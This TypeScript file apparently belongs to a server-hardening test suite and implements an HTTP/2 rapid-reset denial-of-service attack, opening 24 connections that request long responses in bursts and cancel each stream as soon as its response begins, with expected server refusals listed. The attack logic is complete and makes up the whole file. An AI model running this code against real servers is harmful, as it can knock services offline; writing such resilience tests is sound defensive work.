// HTTP/2 by hand: long answers by the thousand, each of which is reset as soon as it has begun.
import { once } from 'node:events';
import type { TLSSocket } from 'node:tls';
import { FrameHeads } from '../rude/frame-heads.ts';
import { frame, frameTypes, openRudeHttp2, request } from '../rude/rude-http2.ts';
import { pause } from '../rude/rude-sockets.ts';
import type { Attack } from './attack.ts';

const connections = 24;
const askedAtOnce = 20;
const everyMs = 25;
const lastsMs = 5_000;
/** Longer than what is given to Bun as it is. */
const path = '/docs';

export const attack: Attack = {
  name: 'left-answers',
  sentence: `${connections} HTTP/2 connections that ask for ${(askedAtOnce * 1_000) / everyMs} long answers a second each, and reset what begins`,
  refusals: ['http busy_network', 'http bytes'],
  over: 'https',
  run: async ({ port }, { from, signal }) => {
    const over = AbortSignal.any([signal, AbortSignal.timeout(lastsMs)]);
    await Promise.all(Array.from({ length: connections }, () => askAndLeave({ port, from, over })));
  },
};

async function askAndLeave(given: { port: number; from: string; over: AbortSignal }) {
  const { over } = given;
  const socket = await openRudeHttp2(given).catch(() => undefined);
  if (!socket) return;
  const begun = beganOf(socket);
  for (let asked = 0; !socket.closed && !over.aborted; asked += askedAtOnce) {
    const requests = Array.from({ length: askedAtOnce }, (_, at) =>
      request({ stream: 2 * (asked + at) + 1, path }),
    );
    socket.write(Buffer.concat([...begun.splice(0).map(reset), ...requests, nextWindow]));
    await pause(everyMs, over);
  }
  socket.destroy();
  if (!socket.closed) await once(socket, 'close');
}

/** The streams whose answers have begun; who looks takes them out. */
function beganOf(socket: TLSSocket): number[] {
  const began: number[] = [];
  const heads = new FrameHeads();
  socket.on('data', (bytes: Buffer) => {
    for (const { type, stream } of heads.take(bytes))
      if (type === frameTypes.headers) began.push(stream);
  });
  return began;
}

const cancel = Buffer.from([0, 0, 0, 8]);

function reset(stream: number): Buffer {
  return frame({ type: frameTypes.reset, stream, body: cancel });
}

/** So that what is on its way never fills the connection's. */
const nextWindow = frame({ type: frameTypes.windowUpdate, body: Buffer.from([0, 15, 0, 0]) });
